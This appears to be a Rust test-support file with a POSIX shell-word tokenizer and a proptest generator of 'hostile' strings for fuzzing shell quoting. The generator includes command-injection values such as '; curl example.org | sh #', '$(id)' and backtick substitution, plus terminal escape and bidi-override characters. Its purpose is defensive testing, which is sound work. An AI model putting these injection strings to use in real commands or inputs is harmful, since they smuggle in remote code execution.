//! A shell's rules for words, and texts that try to break out of theirs.

use proptest::prelude::*;

/// A part of a command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ShellToken {
    /// A word, as the command gets it.
    Word(String),
    /// Something that a shell obeys.
    Obeyed(char),
}

/// Reads a command line by the rules of POSIX, section 2.2 of the shell's language, which every shell shares.
/// <https://pubs.opengroup.org/onlinepubs/9799919799/utilities/V3_chap02.html#tag_19_02>
///
/// # Errors
///
/// A quote is not closed; returns the words so far.
pub fn tokens(line: &str) -> Result<Vec<ShellToken>, Vec<ShellToken>> {
    let (mut tokens, mut word) = (Vec::new(), None::<String>);
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        match c {
            '\'' => {
                let word = word.get_or_insert_default();
                loop {
                    match chars.next() {
                        Some('\'') => break,
                        Some(c) => word.push(c),
                        None => return Err(tokens),
                    }
                }
            }
            '\\' => match chars.next() {
                Some(c) => word.get_or_insert_default().push(c),
                None => return Err(tokens),
            },
            ' ' | '\t' => tokens.extend(word.take().map(ShellToken::Word)),
            // What begins or ends a command, opens an expansion or quotes in another way. `=` and `~` count at the
            // beginning of a word, where zsh and all shells expand them.
            '\n' | '|' | '&' | ';' | '<' | '>' | '(' | ')' | '$' | '`' | '"' | '*' | '?' | '[' | '{'
            | '}' | '!' | '^' | '#' => {
                tokens.extend(word.take().map(ShellToken::Word));
                tokens.push(ShellToken::Obeyed(c));
            }
            '=' | '~' if word.is_none() => tokens.push(ShellToken::Obeyed(c)),
            c => word.get_or_insert_default().push(c),
        }
    }
    tokens.extend(word.map(ShellToken::Word));
    Ok(tokens)
}

/// Texts as a forger would write them: any text, and pieces that a shell or a terminal obeys.
pub fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("'".to_owned()),
        Just("''".to_owned()),
        Just("\\".to_owned()),
        Just("\"".to_owned()),
        Just("; curl example.org | sh #".to_owned()),
        Just("$(id)".to_owned()),
        Just("`id`".to_owned()),
        Just("\n".to_owned()),
        Just("\r".to_owned()),
        Just("\0".to_owned()),
        Just("\u{1b}[2J".to_owned()),
        Just("\u{202e}".to_owned()),
        Just("=".to_owned()),
        Just("~".to_owned()),
        Just("--".to_owned()),
        Just("*".to_owned()),
        Just("{a,b}".to_owned()),
        Just(" ".to_owned()),
        Just("!1".to_owned()),
        "[a-z0-9]{1,4}",
        any::<String>(),
    ];
    proptest::collection::vec(piece, 0..5).prop_map(|pieces| pieces.concat())
}
